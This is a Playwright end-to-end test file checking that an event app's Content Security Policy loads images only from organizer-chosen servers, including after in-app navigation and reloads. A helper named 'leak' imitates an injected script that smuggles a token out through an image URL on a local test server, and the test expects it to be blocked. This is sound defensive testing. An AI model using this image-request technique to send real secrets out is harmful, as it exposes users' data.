/** Images from other servers: the CSP allows those that an organizer chose and blocks all others. */
import type { Locator, Page } from "@playwright/test";

import { listenLocally, type LocalServer } from "../apps/server/src/testing/listen-locally.ts";
import { signInAsOrganizer, createEvent, createGroup, patch } from "./support/event.ts";
import { DESKTOP, expect, PHONE, test } from "./support/test.ts";

const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

interface PictureServer extends LocalServer {
  asked: string[];
}

async function servePictures(): Promise<PictureServer> {
  const asked: string[] = [];
  const server = await listenLocally((request, response) => {
    asked.push(request.url ?? "");
    response.writeHead(200, { "Content-Type": "image/png", "Cache-Control": "no-store" }).end(PNG);
  });
  return { ...server, asked };
}

let chosen: PictureServer;
let other: PictureServer;
test.beforeAll(async () => {
  [chosen, other] = await Promise.all([servePictures(), servePictures()]);
});
test.afterAll(() => Promise.all([chosen.close(), other.close()]));

const logoOf = (page: Page): Locator => page.getByTestId("logo");

async function expectLoaded(picture: Locator): Promise<void> {
  await expect(picture).toBeVisible();
  await expect
    .poll(() => picture.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 0))
    .toBe(true);
}

/** Does what an injected script could do: requests an image whose URL contains stolen data. */
function leak(page: Page, to: string): Promise<string> {
  return page.evaluate(
    (address) =>
      new Promise<string>((resolve) => {
        const image = new Image();
        image.addEventListener("load", () => resolve("loaded"));
        image.addEventListener("error", () => resolve("blocked"));
        image.src = address;
      }),
    `${to}/stolen?token=secret`,
  );
}

test("[SEC-14] a group's page shows its images, also after navigation within the app, and loads no others", async ({
  hubbub,
  people,
}) => {
  const owner = await people.open(DESKTOP);
  await signInAsOrganizer(owner, hubbub);
  const group = await createGroup(owner, "Northlight Conference", "northlight-pictures");
  await patch(owner, `/api/event-groups/${group.id}`, { logoUrl: `${chosen.url}/logo.png` });
  const event = await createEvent(owner);
  await patch(owner, `/api/events/${event.id}`, { groupId: group.id });

  const blocked = /Content Security Policy/u;
  const phone = await people.open({ ...PHONE, errorsExpected: blocked });
  await phone.goto(`/event/${event.id}`);
  for (const { url } of [chosen, other]) expect(await leak(phone, url)).toBe("blocked");
  await phone.getByRole("link", { name: "Northlight Conference" }).click();
  await phone.waitForURL("**/engage/northlight-pictures");
  await expectLoaded(logoOf(phone));
  expect(await leak(phone, other.url)).toBe("blocked");
  expect(other.asked).toEqual([]);
  expect(chosen.asked.every((address) => address === "/logo.png")).toBe(true);
  // Navigate back and forward within one document.
  await phone.goBack();
  await expect(phone.getByText("Connected to live updates")).toBeVisible();
  await phone.goForward();
  await expectLoaded(logoOf(phone));

  // The owner reaches the group's page by navigation within the app. An image of a new server needs a reload.
  await owner.goto("/admin/groups");
  await owner
    .getByRole("link", { name: /Northlight Conference/u })
    .first()
    .click();
  await owner.waitForURL("**/admin/groups/northlight-pictures");
  await expectLoaded(owner.getByTestId("logo"));
  await owner.getByLabel("Logo address").fill(`${other.url}/new-logo.png`);
  await owner.getByLabel("Logo address").press("Enter");
  await expect(owner.getByText("Reload this page to see the image.")).toBeVisible();

  // A page that was open before shows the default logo instead of the new image until it is reloaded.
  await expect(logoOf(phone)).toBeHidden();
  await expect(phone.getByTestId("default-logo")).toBeVisible();
  await phone.reload();
  await expectLoaded(logoOf(phone));
  await owner.reload();
  await expectLoaded(owner.getByTestId("logo"));
  expect(new Set(other.asked)).toEqual(new Set(["/new-logo.png"]));
});
